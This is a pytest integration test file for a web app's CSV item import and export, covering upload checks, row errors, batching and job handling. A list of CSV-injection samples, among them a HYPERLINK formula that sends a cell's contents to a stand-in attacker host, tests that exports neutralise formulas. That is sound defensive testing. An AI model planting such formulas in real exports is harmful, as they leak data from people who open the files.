"""CSV import and export: the API's upload checks, and the worker's handlers
run through :func:`core.jobs.runner.run` on the real database."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any
from uuid import UUID

import httpx
import pytest
from sqlalchemy import event, func, select
from sqlalchemy.ext.asyncio import AsyncConnection, AsyncEngine, AsyncSession, async_sessionmaker

from core.db import transaction
from core.items import jobs as item_jobs
from core.items import repository as item_repository
from core.items.rows import Record
from core.jobs import repository, runner
from core.jobs.context import JobContext, JobLost
from core.jobs_index import job_kinds
from core.models import Item, Job, User
from core.settings import JobSettings, Settings
from tests.integration.conftest import serve, user_id

HEADER = "sku,name,description,price,quantity\n"
# What a production worker runs.
KINDS = job_kinds("production")
Headers = dict[str, str]


async def upload(
    client: httpx.AsyncClient,
    headers: Headers,
    content: bytes | str,
    *,
    content_type: str = "text/csv",
    filename: str = "items.csv",
) -> httpx.Response:
    data = content.encode() if isinstance(content, str) else content
    return await client.post(
        "/api/v1/items/import",
        files={"file": (filename, data, content_type)},
        headers=headers,
    )


async def run_job(
    sessionmaker: async_sessionmaker[AsyncSession],
    settings: JobSettings,
    client: httpx.AsyncClient,
    headers: Headers,
    response: httpx.Response,
) -> dict[str, Any]:
    """Run the job the response created, as a worker would, and return it."""
    assert response.status_code == 202, response.text
    job_id = response.json()["id"]
    assert (
        await runner.run(sessionmaker, UUID(job_id), settings=settings, kinds=KINDS) == "succeeded"
    )
    job: dict[str, Any] = (await client.get(f"/api/v1/jobs/{job_id}", headers=headers)).json()
    assert job["status"] == "succeeded", job
    return job


async def export(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    settings: JobSettings,
    headers: Headers,
) -> tuple[dict[str, Any], httpx.Response]:
    """Export the user's items, run the job as a worker would: the job and
    the download of its file."""
    exported = await client.post("/api/v1/items/export", headers=headers)
    job = await run_job(sessionmaker, settings, client, headers, exported)
    download = await client.get(f"/api/v1/jobs/{job['id']}/result", headers=headers)
    return job, download


async def report(client: httpx.AsyncClient, headers: Headers, job: dict[str, Any]) -> Any:
    response = await client.get(f"/api/v1/jobs/{job['id']}/result", headers=headers)
    assert response.status_code == 200, response.text
    return response.json()


async def items(client: httpx.AsyncClient, headers: Headers) -> dict[str, dict[str, Any]]:
    response = await client.get("/api/v1/items?limit=100&sort=name", headers=headers)
    return {item["sku"]: item for item in response.json()["items"]}


async def test_import_creates_then_updates_then_leaves_unchanged(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    rows = "".join(f"sku-{n},Item {n},about {n},{n}.50,{n}\n" for n in range(7))
    created = await upload(client, user_headers, HEADER + rows)
    assert created.headers["location"].endswith(f"/api/v1/jobs/{created.json()['id']}")
    assert created.json()["kind"] == "items.import"
    job = await run_job(sessionmaker, job_settings, client, user_headers, created)
    assert job["counts"] == {"rows": 7, "created": 7, "updated": 0, "unchanged": 0, "skipped": 0}
    assert job["progress"] == 100
    stored = await items(client, user_headers)
    assert stored["sku-3"]["name"] == "Item 3"
    assert stored["sku-3"]["price"] == "3.50"
    assert stored["sku-3"]["description"] == "about 3"

    # The same file again creates nothing.
    again = await run_job(
        sessionmaker,
        job_settings,
        client,
        user_headers,
        await upload(client, user_headers, HEADER + rows),
    )
    assert again["counts"] == {"rows": 7, "created": 0, "updated": 0, "unchanged": 7, "skipped": 0}

    changed = HEADER + "sku-1,Renamed,about 1,1.50,1\nsku-2,Item 2,about 2,9.99,2\nnew,New,,0,0\n"
    third = await run_job(
        sessionmaker,
        job_settings,
        client,
        user_headers,
        await upload(client, user_headers, changed),
    )
    assert third["counts"] == {"rows": 3, "created": 1, "updated": 2, "unchanged": 0, "skipped": 0}
    stored = await items(client, user_headers)
    assert len(stored) == 8
    assert stored["sku-1"]["name"] == "Renamed"
    assert stored["sku-2"]["price"] == "9.99"
    assert stored["new"]["description"] is None


async def test_bom_crlf_any_column_order_and_optional_description(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    content = (
        '\ufeffQuantity, price ,SKU,name\r\n3,1.25,a1,"Comma, quoted"\r\n4,2,a2,"two\r\nlines"\r\n'
    )
    job = await run_job(
        sessionmaker,
        job_settings,
        client,
        user_headers,
        await upload(client, user_headers, content.encode("utf-8")),
    )
    assert job["counts"]["created"] == 2
    stored = await items(client, user_headers)
    assert stored["a1"]["name"] == "Comma, quoted"
    assert stored["a1"]["quantity"] == 3
    assert stored["a2"]["name"] == "two\r\nlines"
    assert stored["a2"]["price"] == "2.00"


async def test_invalid_rows_are_reported_and_valid_rows_kept(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    content = (
        HEADER
        + "ok-1,Fine,,1,1\n"  # line 2
        + "bad sku,Name,,1,1\n"  # 3
        + "ok-2,,,1,1\n"  # 4: no name
        + "ok-3,Name,,-1,1\n"  # 5
        + "ok-4,Name,,1.001,1\n"  # 6
        + "ok-5,Name,,abc,1\n"  # 7
        + "ok-6,Name,,1,1.5\n"  # 8
        + "ok-7,Name,,1,-2\n"  # 9
        + "ok-8,Name,,1,99999999999\n"  # 10
        + "ok-9,Name,,99999999999,1\n"  # 11
        + "ok-1,Again,,1,1\n"  # 12: repeated sku
        + "only,three,fields\n"  # 13
        + f"ok-10,{'n' * 201},,1,1\n"  # 14
        + "ok-11,Name,,1,1,extra\n"  # 15
        + "\n"  # blank: ignored
        + "ok-12,Fine too,,NaN,1\n"  # 17
        + "ok-13,Last,,0.10,0\n"  # 18
        + "ok-14,Big,,1,"
        + "9" * 5000
        + "\n"  # 19: past int()'s digit limit
        + '"nl\n",Name,,1,1\n'  # 20-21: a newline in a quoted sku
        + 'stray,"Stray"quote,,1,1\n'  # 22: malformed, reading goes on
        + "ok-15,Fine again,,2,2\n"  # 23
        + 'open,"Never closed,,1,1\n'  # 24
        + "ok-16,Swallowed by the open quote,,1,1\n"  # 25
    )
    job = await run_job(
        sessionmaker,
        job_settings,
        client,
        user_headers,
        await upload(client, user_headers, content),
    )
    assert job["counts"] == {"rows": 21, "created": 3, "updated": 0, "unchanged": 0, "skipped": 18}
    result = await report(client, user_headers, job)
    assert result["errors_truncated"] is False
    found = {(e["line"], e["column"]): e["reason"] for e in result["errors"]}
    assert found == {
        (3, "sku"): "may only contain letters, digits, '.', '_' and '-'",
        (4, "name"): "is required",
        (5, "price"): "must be at least 0",
        (6, "price"): "has more than 2 decimal places",
        (7, "price"): "'abc' is not a number",
        (8, "quantity"): "'1.5' is not a whole number",
        (9, "quantity"): "must be at least 0",
        (10, "quantity"): "must be at most 2147483647",
        (11, "price"): "must be at most 9999999999.99",
        (12, "sku"): "repeats the sku of line 2",
        (13, None): "has 3 fields; the header has 5",
        (14, "name"): "is longer than 200 characters",
        (15, None): "has 6 fields; the header has 5",
        (17, "price"): "must be a finite number",
        (19, "quantity"): "must be at most 2147483647",
        (20, "sku"): "may only contain letters, digits, '.', '_' and '-'",
        (22, None): "malformed CSV (',' expected after '\"')",
        (24, None): (
            "malformed CSV (a quoted field is never closed); lines 24-25 were read as this record"
        ),
    }
    assert set(await items(client, user_headers)) == {"ok-1", "ok-13", "ok-15"}


async def test_the_report_keeps_the_first_thousand_errors(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    settings: Settings,
) -> None:
    content = HEADER + "".join(f"bad-{n},Name,,x,1\n" for n in range(1500)) + "good,Name,,1,1\n"
    job = await run_job(
        sessionmaker,
        settings.jobs,
        client,
        user_headers,
        await upload(client, user_headers, content),
    )
    assert job["counts"]["skipped"] == 1500
    assert job["counts"]["created"] == 1
    result = await report(client, user_headers, job)
    assert len(result["errors"]) == 1000
    assert result["errors_truncated"] is True
    assert result["errors"][-1]["line"] == 1001


@pytest.mark.parametrize(
    ("content", "content_type", "status", "message"),
    [
        (b"\x89PNG\r\n", "image/png", 415, "expected a CSV file"),
        (
            b"sku,name\xff,price,quantity\n",
            "text/csv",
            422,
            "not UTF-8 text (byte 0xff at offset 8)",
        ),
        (b"", "text/csv", 422, "file is empty"),
        (b"sku,name,price\n", "text/csv", 422, "missing required columns: quantity"),
        (
            b"sku,name,price,quantity,colour,size\n",
            "text/csv",
            422,
            "unknown columns: 'colour', 'size'",
        ),
        (b"sku,sku,name,price,quantity\n", "text/csv", 422, "repeated columns: sku"),
        (b"sku,na\x00me,price,quantity\n", "text/csv", 422, "NUL bytes"),
        (b'sku,"name,price,quantity\n', "text/csv", 422, "CSV header on line 1 is malformed"),
    ],
)
async def test_bad_uploads_are_refused_at_once(
    client: httpx.AsyncClient,
    session: AsyncSession,
    user_headers: Headers,
    content: bytes,
    content_type: str,
    status: int,
    message: str,
) -> None:
    response = await upload(client, user_headers, content, content_type=content_type)
    assert response.status_code == status, response.text
    body = response.json()
    text = body["error"]["message"] if status != 422 else body["detail"][0]["msg"]
    assert message in text
    jobs = (await client.get("/api/v1/jobs", headers=user_headers)).json()
    assert jobs["total"] == 0


async def test_import_without_a_file_is_422(
    client: httpx.AsyncClient, user_headers: Headers
) -> None:
    response = await client.post(
        "/api/v1/items/import", data={"other": "field"}, headers=user_headers
    )
    assert response.status_code == 422


async def test_broken_multipart_is_a_400_that_says_so(
    client: httpx.AsyncClient, user_headers: Headers
) -> None:
    response = await client.post(
        "/api/v1/items/import",
        content=b'--b\r\nContent-Disposition: form-data; name="file"\r\n\r\nno end',
        headers={**user_headers, "Content-Type": "multipart/form-data"},  # no boundary
    )
    assert response.status_code == 400, response.text
    assert response.json()["error"] == {
        "code": "malformed_body",
        "message": "request body could not be parsed as its Content-Type says "
        "(malformed JSON or form data, or not UTF-8)",
    }


async def test_control_characters_leave_the_filename(
    client: httpx.AsyncClient, user_headers: Headers, session: AsyncSession
) -> None:
    # Raw, because httpx percent-encodes control characters in filenames.
    body = (
        b"--b\r\n"
        b'Content-Disposition: form-data; name="file"; filename="a\x00b\x07.csv"\r\n'
        b"Content-Type: text/csv\r\n\r\n" + HEADER.encode() + b"a,A,,1,1\n\r\n--b--\r\n"
    )
    response = await client.post(
        "/api/v1/items/import",
        content=body,
        headers={**user_headers, "Content-Type": "multipart/form-data; boundary=b"},
    )
    assert response.status_code == 202, response.text
    job = await session.get(Job, UUID(response.json()["id"]))
    assert job is not None
    assert job.payload["filename"] == "ab.csv"


@pytest.fixture
async def small_upload_client(
    settings: Settings, engine: AsyncEngine, sessionmaker: async_sessionmaker[AsyncSession]
) -> AsyncIterator[httpx.AsyncClient]:
    """An app whose upload limit is 1,000 bytes."""
    limited = settings.model_copy(
        update={"jobs": settings.jobs.model_copy(update={"max_upload_bytes": 1000})}
    )
    async with serve(limited, sessionmaker) as client:
        yield client


async def test_uploads_over_the_limit_are_413(
    small_upload_client: httpx.AsyncClient, user_headers: Headers
) -> None:
    client = small_upload_client
    just_fits = HEADER + "a,b,,1,1\n" * ((1000 - len(HEADER)) // 9)
    assert len(just_fits) <= 1000
    assert (await upload(client, user_headers, just_fits)).status_code == 202

    # Past the file limit, inside the multipart envelope allowance.
    over = (await upload(client, user_headers, HEADER + "a,b,,1,1\n" * 200)).json()
    assert over["error"]["code"] == "request_too_large"
    assert "1000 bytes" in over["error"]["message"]

    # Far past it: refused from the Content-Length, before the body is read.
    huge = await upload(client, user_headers, HEADER + "a,b,,1,1\n" * 20_000)
    assert huge.status_code == 413

    # Streamed without a Content-Length: refused once the limit is crossed.
    async def chunks() -> AsyncIterator[bytes]:
        yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="x.csv"\r\n\r\n'
        for _ in range(100):
            yield b"a" * 1000

    streamed = await client.post(
        "/api/v1/items/import",
        content=chunks(),
        headers={**user_headers, "Content-Type": "multipart/form-data; boundary=b"},
    )
    assert streamed.status_code == 413


async def test_export_round_trips_through_import(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    for sku, name, description in [
        ("b-2", "Blue mug", None),
        ("a-1", 'Red "quoted", mug', "line one\nline two"),
        ("c-3", "Green plate", ""),
    ]:
        created = await client.post(
            "/api/v1/items",
            json={
                "sku": sku,
                "name": name,
                "description": description,
                "price": "4.5",
                "quantity": 2,
            },
            headers=user_headers,
        )
        assert created.status_code == 201

    job, download = await export(client, sessionmaker, job_settings, user_headers)
    assert job["counts"] == {"rows": 3}
    assert download.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in download.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(download.text, newline="")))
    assert rows[0] == ["sku", "name", "description", "price", "quantity"]
    assert [r[0] for r in rows[1:]] == ["a-1", "b-2", "c-3"]
    assert rows[1] == ["a-1", 'Red "quoted", mug', "line one\nline two", "4.50", "2"]

    before = await items(client, user_headers)
    back = await run_job(
        sessionmaker,
        job_settings,
        client,
        user_headers,
        await upload(client, user_headers, download.content),
    )
    assert back["counts"] == {"rows": 3, "created": 0, "updated": 0, "unchanged": 3, "skipped": 0}
    assert await items(client, user_headers) == before

    mugs = await run_job(
        sessionmaker,
        job_settings,
        client,
        user_headers,
        await client.post("/api/v1/items/export?q=MUG", headers=user_headers),
    )
    assert mugs["counts"] == {"rows": 2}


# Items whose text would start a spreadsheet formula (CSV injection), and the
# row their export must write: a quote before each such cell, and nowhere else
# (a name that starts with a quote of its own, "'tis", is written as it is).
HOSTILE = [
    (("-5", "=1+1", "+cmd"), ["'-5", "'=1+1", "'+cmd"]),
    (("-2", "-2+3", "@SUM(A1)"), ["'-2", "'-2+3", "'@SUM(A1)"]),
    (("tab", "\tx", "\rx"), ["tab", "'\tx", "'\rx"]),
    (("quoted", "'=already quoted", "'tis"), ["quoted", "''=already quoted", "'tis"]),
    (("tis", "'tis", None), ["tis", "'tis", ""]),
    (("-", "=", "-"), ["'-", "'=", "'-"]),
    (("lf", "@", "\n"), ["lf", "'@", "'\n"]),
    (
        ("link", '=HYPERLINK("https://evil.example/?leak="&A2,"Click")', "a\n=b"),
        ["link", "'" + '=HYPERLINK("https://evil.example/?leak="&A2,"Click")', "a\n=b"],
    ),
    (("plain", "Blue mug", "mugs-and-cups"), ["plain", "Blue mug", "mugs-and-cups"]),
]


async def test_an_export_neutralises_formulas_and_still_round_trips(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    for (sku, name, description), _ in HOSTILE:
        item = {"sku": sku, "name": name, "description": description}
        created = await client.post(
            "/api/v1/items", json={**item, "price": "0", "quantity": 0}, headers=user_headers
        )
        assert created.status_code == 201, created.text
        assert {key: created.json()[key] for key in item} == item  # stored as sent
    _, download = await export(client, sessionmaker, job_settings, user_headers)
    rows = list(csv.reader(io.StringIO(download.text, newline="")))
    assert rows[0] == ["sku", "name", "description", "price", "quantity"]
    # Numbers stay plain numbers.
    assert sorted(rows[1:]) == sorted([*cells, "0.00", "0"] for _, cells in HOSTILE)
    for row in rows:
        assert not any(cell[:1] in "=+-@\t\r\n" for cell in row if cell), row

    before = await items(client, user_headers)
    back = await run_job(
        sessionmaker,
        job_settings,
        client,
        user_headers,
        await upload(client, user_headers, download.content),
    )
    count = len(HOSTILE)
    assert back["counts"] == {
        "rows": count,
        "created": 0,
        "updated": 0,
        "unchanged": count,
        "skipped": 0,
    }
    assert await items(client, user_headers) == before
    assert before["-5"]["name"] == "=1+1"
    assert before["quoted"]["name"] == "'=already quoted"


async def test_an_import_reads_a_quote_before_a_formula_as_an_export_writes_it(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    """A user's own file: a quote before a formula character is dropped, one
    before anything else is kept; a cell without one is read as it stands."""
    content = HEADER + "'-5,'=1+1,''@x,1,1\na,'tis,=2+2,1,1\n"
    job = await run_job(
        sessionmaker,
        job_settings,
        client,
        user_headers,
        await upload(client, user_headers, content),
    )
    assert job["counts"]["created"] == 2
    stored = await items(client, user_headers)
    assert (stored["-5"]["name"], stored["-5"]["description"]) == ("=1+1", "'@x")
    assert (stored["a"]["name"], stored["a"]["description"]) == ("'tis", "=2+2")


async def test_an_export_downloads_as_a_named_csv_file(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    job, download = await export(client, sessionmaker, job_settings, user_headers)
    assert download.status_code == 200
    assert download.headers["content-type"] == "text/csv; charset=utf-8"
    assert download.headers["content-disposition"] == (
        f'attachment; filename="items-{job["id"]}.csv"'
    )


async def test_export_of_nothing_is_a_header(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    _, download = await export(client, sessionmaker, job_settings, user_headers)
    assert download.text == "sku,name,description,price,quantity\r\n"


async def test_an_import_stops_when_its_job_is_cancelled(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    response = await upload(
        client, user_headers, HEADER + "a,A,,1,1\n" * 1 + "b,B,,1,1\nc,C,,1,1\n"
    )
    job_id = UUID(response.json()["id"])
    async with sessionmaker() as session, transaction(session):
        job = await repository.claim(session, job_id)
    assert job is not None
    cancelled = await client.post(f"/api/v1/jobs/{job_id}/cancel", headers=user_headers)
    assert cancelled.json()["status"] == "cancelled"
    ctx = JobContext(job, sessionmaker, job_settings)
    async with sessionmaker() as session:
        with pytest.raises(JobLost):
            await item_jobs.import_items(session, ctx)


async def test_nul_in_a_stored_file_is_a_row_error(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    job_settings: JobSettings,
) -> None:
    """The API refuses files with NUL bytes; a job stored some other way still
    reports such a row instead of failing on Postgres' text type."""
    owner = await user_id(client, user_headers)
    async with sessionmaker() as session, transaction(session):
        job = await repository.create(
            session,
            owner_id=owner,
            kind=item_jobs.IMPORT.name,
            payload={},
            input_file=(HEADER + "a,Nul\x00name,,1,1\nb,Fine,,1,1\n").encode(),
        )
    assert await runner.run(sessionmaker, job.id, settings=job_settings, kinds=KINDS) == "succeeded"
    result = await report(client, user_headers, {"id": job.id})
    assert result["errors"] == [
        {"line": 2, "column": "name", "reason": "must not contain NUL characters"}
    ]
    assert result["created"] == 1


async def test_a_large_import_goes_through_copy_and_counts_right(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    user_headers: Headers,
    settings: Settings,
) -> None:
    rows = "".join(f"big-{n:04d},Item {n},,{n}.00,{n}\n" for n in range(1200))
    first = await run_job(
        sessionmaker,
        settings.jobs,
        client,
        user_headers,
        await upload(client, user_headers, HEADER + rows),
    )
    assert first["counts"] == {
        "rows": 1200,
        "created": 1200,
        "updated": 0,
        "unchanged": 0,
        "skipped": 0,
    }
    # Half the rows changed, 600 new ones: COPY for the new, one UPDATE for the rest.
    changed = "".join(f"big-{n:04d},Renamed {n},,{n}.00,{n}\n" for n in range(0, 1200, 2))
    new = "".join(f"more-{n:04d},New {n},,1.00,1\n" for n in range(600))
    second = await run_job(
        sessionmaker,
        settings.jobs,
        client,
        user_headers,
        await upload(client, user_headers, HEADER + changed + new),
    )
    assert second["counts"] == {
        "rows": 1200,
        "created": 600,
        "updated": 600,
        "unchanged": 0,
        "skipped": 0,
    }
    listing = await client.get("/api/v1/items?limit=1&q=Renamed", headers=user_headers)
    assert listing.json()["total"] == 600
    # 1,800 items: past ITEMS_TOTAL_CAP (1,000), so the list says "1,000+";
    # the table has them all.
    everything = (await client.get("/api/v1/items?limit=1", headers=user_headers)).json()
    assert (everything["total"], everything["total_capped"]) == (1000, True)
    owner = await user_id(client, user_headers)
    async with sessionmaker() as session:
        stored = select(func.count()).select_from(Item).where(Item.owner_id == owner)
        assert await session.scalar(stored) == 1800


@dataclass
class RecordingContext(JobContext):
    """A job context that also keeps every progress figure it reports."""

    reported: list[int] = field(default_factory=list)

    async def progress(self, percent: int, counts: dict[str, int] | None = None) -> None:
        self.reported.append(percent)
        await super().progress(percent, counts)


async def test_an_import_writes_per_batch_not_per_row_and_reports_progress(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    connection: AsyncConnection,
    user_headers: Headers,
    settings: Settings,
) -> None:
    rows = "".join(f"per-batch-{n:04d},Item {n},,1.00,1\n" for n in range(1500))
    statements: list[str] = []

    def count(*args: Any) -> None:
        statements.append(args[2])

    async def run_import(batch_rows: int) -> tuple[dict[str, int] | None, list[int]]:
        response = await upload(client, user_headers, HEADER + rows)
        async with sessionmaker() as session, transaction(session):
            job = await repository.claim(session, UUID(response.json()["id"]))
        assert job is not None
        job_settings = settings.jobs.model_copy(update={"import_batch_rows": batch_rows})
        ctx = RecordingContext(job, sessionmaker, job_settings)
        statements.clear()
        event.listen(connection.sync_connection, "before_cursor_execute", count)
        try:
            async with sessionmaker() as session, transaction(session):
                output = await item_jobs.import_items(session, ctx)
        finally:
            event.remove(connection.sync_connection, "before_cursor_execute", count)
        return output.counts, ctx.reported

    # A new owner: three batches of 500 through COPY.
    counts, reported = await run_import(500)
    assert counts == {"rows": 1500, "created": 1500, "updated": 0, "unchanged": 0, "skipped": 0}
    # Per batch, by bytes read; the finish records 100.
    assert reported == [32, 65, 99]
    # Beside the batches: reading the file (a query per chunk, each in its
    # own savepoint here), the quota's lock and count, and the first job writes.
    fixed = 12
    assert len(statements) <= 6 * 3 + fixed, statements

    # The same rows again in 15 batches of 100: one INSERT and one UPDATE
    # per batch, plus the progress writes.
    counts, reported = await run_import(100)
    assert counts == {"rows": 1500, "created": 0, "updated": 0, "unchanged": 1500, "skipped": 0}
    assert reported == sorted(reported)
    assert len(reported) == 15
    assert len(statements) <= 6 * 15 + fixed, statements


@pytest.mark.parametrize("size", [3, 600])
async def test_a_sku_created_meanwhile_is_updated_not_duplicated(
    session: AsyncSession, owner: User, size: int, settings: Settings
) -> None:
    """The owner had no items when the import began, then one of its skus
    appeared: that row becomes an update. (A small batch inserts with ON
    CONFLICT DO NOTHING; a large one's COPY fails in its savepoint and the
    batch is written again.) The import holds the owner's item lock, so the
    API cannot create one meanwhile (test_item_quotas); this is the
    repository's own fallback, called here without the lock."""
    if size >= item_repository.COPY_MIN_ROWS and settings.db.db_pooler == "transaction":
        # A COPY that the server refuses while the client still sends rows
        # can leave PgBouncer's (transaction mode) server connection out of
        # step with the client (pgbouncer/pgbouncer#1470; this stack runs 1.24);
        # the app never meets it, as the lock above rules the conflict out.
        pytest.skip("a refused COPY through PgBouncer in transaction mode (pgbouncer#1470)")
    session.add(Item(owner_id=owner.id, sku="sku-0001", name="made meanwhile", price=1, quantity=1))
    await session.flush()
    records: list[Record] = [
        (f"sku-{n:04d}", f"Name {n}", None, Decimal("2.00"), n) for n in range(size)
    ]
    assert await item_repository.upsert(session, owner.id, records, fresh=True) == (size - 1, 1)
    count = await session.scalar(
        select(func.count()).select_from(Item).where(Item.owner_id == owner.id)
    )
    assert count == size
    updated = await session.scalar(
        select(Item.name).where(Item.sku == "sku-0001", Item.owner_id == owner.id)
    )
    assert updated == "Name 1"
